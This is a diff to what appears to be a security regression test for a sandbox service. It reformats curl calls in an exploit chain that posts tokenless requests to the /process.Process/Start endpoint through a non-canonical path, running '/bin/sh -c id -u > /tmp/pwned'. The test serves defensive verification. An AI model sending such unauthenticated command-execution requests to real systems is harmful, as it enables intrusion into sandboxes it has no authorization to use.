@@ -27,7 +27,11 @@ describe.skipIf(skip !== undefined)('chain 1: /init through a non-canonical path
 
   /** `curl -X POST <url><target> …` as the attacker, path sent as written; the HTTP status. */
   const curlPost = async (target: string, args: string[], input?: Buffer): Promise<string> => {
-    const r = await attacker.run('curl', ['-sS', '--path-as-is', '-o', '/dev/null', '-w', '%{http_code}', '-X', 'POST', `${backend.url}${target}`, ...args], input === undefined ? {} : { input });
+    const r = await attacker.run(
+      'curl',
+      ['-sS', '--path-as-is', '-o', '/dev/null', '-w', '%{http_code}', '-X', 'POST', `${backend.url}${target}`, ...args],
+      input === undefined ? {} : { input },
+    );
     expect(r.stderr).toBe('');
     return r.stdout;
   };
@@ -39,7 +43,18 @@ describe.skipIf(skip !== undefined)('chain 1: /init through a non-canonical path
   const tokenlessCommand = () =>
     curlPost(
       '/process.Process/Start',
-      ['-H', `E2b-Sandbox-Id: ${sandbox.id}`, '-H', 'E2b-Sandbox-Port: 49983', '-H', 'Content-Type: application/connect+json', '-H', 'Connect-Protocol-Version: 1', '--data-binary', '@-'],
+      [
+        '-H',
+        `E2b-Sandbox-Id: ${sandbox.id}`,
+        '-H',
+        'E2b-Sandbox-Port: 49983',
+        '-H',
+        'Content-Type: application/connect+json',
+        '-H',
+        'Connect-Protocol-Version: 1',
+        '--data-binary',
+        '@-',
+      ],
       connectEnvelope({ process: { cmd: '/bin/sh', args: ['-c', 'id -u > /tmp/pwned'] }, stdin: false }),
     );
 
